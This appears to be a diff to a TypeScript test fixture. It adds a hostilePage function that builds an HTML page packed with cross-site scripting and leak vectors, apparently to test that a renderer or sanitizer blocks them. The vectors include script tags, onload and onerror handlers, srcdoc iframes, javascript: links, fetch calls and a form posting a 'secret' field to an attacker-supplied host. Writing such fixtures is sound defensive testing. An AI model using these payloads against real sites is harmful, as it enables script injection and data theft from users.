@@ -35,3 +35,29 @@ export const hostileMarkdown: readonly string[] = [
   '`<img src=x onerror=hurt=1>` \\<script>hurt=1\\</script>',
   '<marquee onstart="hurt=1">moving</marquee><dialog open>dialog</dialog><input autofocus onfocus="hurt=1">',
 ];
+
+/** A page that tries to run, to load, to leave and to send. */
+export const hostilePage = (evil: string): string => `<!doctype html>
+<meta http-equiv="refresh" content="0; url=${evil}/refresh">
+<base href="${evil}/" target="_self">
+<link rel="stylesheet" href="${evil}/style.css">
+<link rel="preconnect" href="${evil}">
+<link rel="prefetch" href="${evil}/prefetch">
+<style>@import '${evil}/import.css'; h1 { color: rgb(1, 2, 3); background: url(${evil}/ground.png) }
+@font-face { font-family: evil; src: url(${evil}/font.woff2) } body { font-family: evil }</style>
+<script>parent.hurt = 1; top.location = '${evil}/top'; fetch('${evil}/fetch')</script>
+<script src="${evil}/script.js"></script>
+<body onload="parent.hurt = 2; alert(1)">
+<h1>A page of herons</h1>
+<img src="${evil}/pixel.png" onerror="parent.hurt = 3">
+<svg onload="parent.hurt = 4"><image href="${evil}/image.png" /></svg>
+<iframe src="${evil}/frame"></iframe>
+<iframe srcdoc="<script>top.hurt = 5</script>"></iframe>
+<object data="${evil}/object"></object><embed src="${evil}/embed">
+<video autoplay src="${evil}/video.mp4" poster="${evil}/poster.png"></video>
+<p><a href="${evil}/window" target="_blank">to a window</a>
+<a href="${evil}/top-link" target="_top">to the top</a>
+<a href="javascript:parent.hurt = 6">to a script</a></p>
+<form action="${evil}/form" method="post"><input name="secret" value="1"><button>send</button></form>
+<p><a href="${evil}/self" ping="${evil}/ping">to itself</a></p>
+<!-- left open`;
